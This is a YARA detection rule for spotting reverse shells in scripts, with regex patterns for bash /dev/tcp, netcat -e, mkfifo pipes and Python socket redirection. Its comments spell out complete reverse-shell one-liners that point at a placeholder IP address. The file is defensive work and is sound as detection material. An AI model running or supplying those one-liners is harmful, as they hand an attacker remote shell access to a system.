/*
    Reverse shells in scripts: a shell whose input and output are a network connection.
*/

rule reverse_shell_script : reverse_shell linux
{
    meta:
        description = "Script that connects a shell to a remote host"
        author = "Hải Đăng"
    strings:
        // bash -i >& /dev/tcp/203.0.113.5/4444 0>&1
        $dev_tcp = /(ba|z|k)?sh\s+-i\s*[0-9]?>&\s*\/dev\/(tcp|udp)\/[a-zA-Z0-9.\-]{1,253}\/[0-9]{1,5}/
        // nc -e /bin/sh 203.0.113.5 4444, ncat ... -e /bin/bash
        $nc_exec = /\bnc(at)?\s[^\n]{0,100}-(e|c)\s+\/bin\/(ba|z|k)?sh/
        // rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc host port > /tmp/f
        $fifo = /mkfifo\s+\S{1,100}\s*;\s*cat\s+\S{1,100}\s*\|\s*\/bin\/(ba)?sh\s+-i/
        // python -c 'import socket,subprocess,os; s=socket.socket(...); s.connect((...)); os.dup2(...)'
        $py_connect = /socket\.socket\([^\n]{0,200}\.connect\(\([^\n]{0,200}os\.dup2\(/
    condition:
        filesize < 1MB and any of them
}
